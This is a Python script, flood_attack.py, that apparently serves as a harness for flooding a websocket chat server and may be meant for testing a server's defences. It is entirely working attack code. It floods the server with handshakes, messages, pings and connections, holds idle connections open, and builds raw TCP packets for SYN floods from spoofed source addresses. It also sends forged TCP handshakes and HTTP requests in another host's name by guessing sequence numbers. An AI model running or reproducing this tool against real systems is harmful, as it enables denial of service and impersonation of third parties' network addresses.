# SPDX-License-Identifier: MIT
"""flood_attack.py SERVER KIND ADDRESS COUNT: somebody at ADDRESS does too much of one thing, COUNT times, as fast as it goes.

handshakes, messages, pings, fragments, connections: over real connections. syns: from random addresses of ADDRESS/10. forged: whole
requests in the name of ADDRESS, whose answers come to whoever has it. silent: connections that never say a word.
"""
import asyncio
import random
import socket
import struct
import sys
import time

import websockets

SERVER, KIND, ADDRESS, COUNT = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
CHAT = f"ws://{SERVER}/chat"


def connect():
    return websockets.connect(CHAT, local_addr=(ADDRESS, 0), compression=None, ping_interval=None, open_timeout=30)


async def handshakes():
    for _ in range(COUNT):
        async with connect():
            pass


async def messages():
    async with connect() as ws:
        for number in range(COUNT):
            await ws.send(f"buy {number}")
            if number % 100 == 99:
                await asyncio.sleep(0.05)


async def pings():
    async with connect() as ws:
        for number in range(COUNT):
            await ws.ping(str(number).encode())
            await asyncio.sleep(0.005)


async def fragments():
    async with connect() as ws:
        await ws.send(["x"] * COUNT)
        await asyncio.sleep(0.5)


async def connections():
    for _ in range(COUNT):
        _, writer = await asyncio.open_connection(SERVER, 80, local_addr=(ADDRESS, 0))
        writer.close()
        await asyncio.sleep(0.002)


async def silent():
    pairs = [await asyncio.open_connection(SERVER, 80, local_addr=(ADDRESS, 0)) for _ in range(COUNT)]
    await asyncio.sleep(15)
    for _, writer in pairs:
        writer.close()


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def packet(source, port, seq, ack, flags, payload=b""):
    """IPv4 and TCP (RFC 791 s3.1, RFC 9293 s3.1); the kernel fills in IP's length and checksum."""
    ends = socket.inet_aton(source) + socket.inet_aton(SERVER)
    tcp = struct.pack("!HHIIBBHHH", port, 80, seq, ack, 5 << 4, flags, 64240, 0, 0)
    pseudo = ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp) + len(payload))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp + payload)) + tcp[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, random.randrange(65536), 0x4000, 64, socket.IPPROTO_TCP, 0) + ends + tcp + payload


SYN, ACK, PSH = 2, 16, 8


def raw():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


async def syns():
    net = struct.unpack("!I", socket.inet_aton(ADDRESS))[0]
    wire = raw()
    for number in range(COUNT):
        source = socket.inet_ntoa(struct.pack("!I", net | random.randrange(1 << 22)))
        wire.sendto(packet(source, random.randrange(1024, 65536), random.randrange(1 << 32), 0, SYN), (SERVER, 0))
        if number % 20 == 0:
            time.sleep(0.01)


async def forged():
    wire = raw()
    request = f"GET /?{ADDRESS} HTTP/1.1\r\nHost: {SERVER}\r\n\r\n".encode()
    for number in range(COUNT):
        port, seq = 20000 + number, random.randrange(1 << 32)
        wire.sendto(packet(ADDRESS, port, seq, 0, SYN), (SERVER, 0))
        time.sleep(0.002)
        guess = random.randrange(1 << 32)          # what the server's SYN said went to somebody else
        wire.sendto(packet(ADDRESS, port, (seq + 1) % (1 << 32), guess, ACK), (SERVER, 0))
        wire.sendto(packet(ADDRESS, port, (seq + 1) % (1 << 32), guess, ACK | PSH, request), (SERVER, 0))

random.seed(KIND)
asyncio.run({"handshakes": handshakes, "messages": messages, "pings": pings, "fragments": fragments, "connections": connections,
             "silent": silent, "syns": syns, "forged": forged}[KIND]())
